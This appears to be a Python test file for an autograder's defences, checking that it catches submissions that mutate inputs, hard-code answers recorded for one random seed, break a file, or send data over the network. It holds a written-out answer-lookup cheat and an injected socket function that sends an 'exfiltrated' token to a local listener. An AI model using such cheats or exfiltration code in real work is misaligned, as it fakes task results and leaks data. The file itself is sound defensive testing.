    no_points(v, graded, ["m5.conv2d.forward"], statuses={"TODO"})
    common(v, attack, graded)
    v.done()


def test_modifying_the_input_is_caught_and_costs_nothing_else(attack):
    """'modifies its input': a Conv2D.forward that zeroes x after computing the right answer
    fails m5.layers.no_input_mutation's conv part, and the checks that judge its values
    (which keep their own copies of x) still pass."""
    tree = attack.tree("reference", [(LAYERS, FORWARD_RETURN, FORWARD_RETURN.replace(
        "return out", "x[...] = 0.0\n        return out"))])
    graded = grade(attack, tree, "m5.[cl]*")
    v = Verdict("Conv2D.forward zeroes its input")
    r = graded.result("m5.layers.no_input_mutation")
    conv = [p for p in r.get("parts", []) if p["name"] == "conv"]
    v.expect(r["points"] is not None and r["points"] < r["max_points"] and conv
             and conv[0]["status"] == "FAIL" and "modified x in place" in conv[0]["message"],
             f"m5.layers.no_input_mutation did not catch it: {r}")
    keeps_points(v, graded, ["m5.conv2d.forward", "m5.conv2d.backward", "m5.cross_entropy",
                             "m5.layers.params_live"])
    common(v, attack, graded)
    v.done()


def record_conv_forward(seed):
    """What a student who read the public suite could record: m5.conv2d.forward run in this
    process on the reference for `seed` (a stand-in `student` hands out local objects), and
    the answer to every input it drew."""
    from grader.checks import Grade
    from grader.plugin import check_seed
    spec = faults.all_checks()["m5.conv2d.forward"]
    check_fn = getattr(importlib.import_module(spec.file), spec.func_name)
    reference = importlib.import_module("reference.module5.layers")
    table = {}

    class Recording(reference.Conv2D):
        def forward(self, x):
            out = super().forward(x)
            table[hashlib.sha256(np.ascontiguousarray(x).tobytes()).hexdigest()] = (
                out.shape, base64.b64encode(np.ascontiguousarray(out).tobytes()).decode())
            return out

    class Local:
        def module(self, dotted):
            return types.SimpleNamespace(Conv2D=Recording)

    g = Grade(spec)
    s = check_seed(seed, spec.id)
    fixtures = {"student": Local(), "rng": np.random.default_rng(s), "grade": g, "seed": s,
                "timeout_scale": 1.0}
    check_fn(**{k: fixtures[k] for k in inspect.signature(inspect.unwrap(check_fn)).parameters})
    assert g.result().status == "PASS", g.result()
    return table


HARDCODED = '''import hashlib, base64
_fault_key = hashlib.sha256(np.ascontiguousarray(x).tobytes()).hexdigest()
if _fault_key in _FAULT_TABLE:
    _fault_shape, _fault_data = _FAULT_TABLE[_fault_key]
    return np.frombuffer(base64.b64decode(_fault_data)).reshape(_fault_shape).copy()
_F, _C, _kh, _kw = self.W.shape
_p, _s = self.padding, self.stride
return np.zeros((x.shape[0], _F, (x.shape[2] + 2 * _p - _kh) // _s + 1, (x.shape[3] + 2 * _p - _kw) // _s + 1))'''


def test_answers_hard_coded_for_one_run_fail_the_next(attack):
    """'answers hard-coded for one set of inputs (inputs are random per run; the seed ...
    reproduces a run)': a Conv2D.forward that only knows the answers recorded for seed 11
    passes with --seed 11 and earns nothing with --seed 12."""
    table = record_conv_forward(11)
    tree = attack.tree("reference", [(LAYERS, FORWARD_START, "".join(
        f"        {line}\n" for line in HARDCODED.splitlines()) + FORWARD_START),
        (LAYERS, None, f"_FAULT_TABLE = {table!r}\n")])
    same = grade(attack, tree, "m5.conv2d.forward", seed=11)
    other = grade(attack, tree, "m5.conv2d.forward", seed=12)
    v = Verdict("answers hard-coded for seed 11")
    r = same.result("m5.conv2d.forward")
    v.expect(r["status"] == "PASS" and r["points"] == r["max_points"],
             f"--seed 11 did not reproduce the recorded run: {r}")
    no_points(v, other, ["m5.conv2d.forward"], statuses={"FAIL"})
    for graded in (same, other):
        common(v, attack, graded)
    v.done()


def test_a_broken_file_hides_no_other_score(attack):
    """'a broken file hiding the scores of the others': a syntax error in module6/upsample.py
    costs the upsample checks (ERROR naming it), not BatchNorm's or the blocks'."""
    tree = attack.tree("reference", [("module6/upsample.py",
                                      '    def __init__(self, scale_factor=2, mode="nearest"):',
                                      '    def __init__(self, scale_factor=2, mode="nearest")')])
    graded = grade(attack, tree, "m6.[bu][ap]*")
    v = Verdict("a syntax error in module6/upsample.py")
    no_points(v, graded, ["m6.upsample.nearest", "m6.upsample.bilinear"], statuses={"ERROR"},
              names=("upsample.py",))
    keeps_points(v, graded, ["m6.batchnorm.forward", "m6.batchnorm.backward",
                             "m6.basicblock.identity", "m6.basicblock.projection",
                             "m6.basicblock.backward"])
    common(v, attack, graded)
    v.done()


NETWORK = r'''
def _fault_call_home(port):
    """Connect to a listener on the grading machine's loopback and send something out."""
    import socket
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(("exfiltrated by " + _FAULT["token"]).encode())
    except OSError:
        pass
'''


def test_no_network(attack):
    """'network': Conv2D.forward connects to a TCP listener this test opens on 127.0.0.1 and
    sends data. Undefended: the connection arrives."""
    import socket
    import threading
    arrived = []
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        listener.settimeout(0.5)
        stop = threading.Event()

        def accept():
            while not stop.is_set():
                try:
                    conn, _ = listener.accept()
                except OSError:
                    continue
                with conn:
                    conn.settimeout(2)
                    try:
                        arrived.append(conn.recv(200))
                    except OSError:
                        arrived.append(b"(connected)")

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        tree = attack.inject_forward(FIRE_ONCE + "    _fault_escape()\n    _fault_call_home(_FAULT['port'])",
                                     more=[(LAYERS, None, NETWORK)], port=listener.getsockname()[1])
        graded = grade(attack, tree, "m5.conv2d.forward")
        stop.set()
        thread.join()
    v = Verdict("network from a worker")
    v.expect(not arrived, f"student code reached the network: {arrived[:3]}")
    common(v, attack, graded)
    v.done()
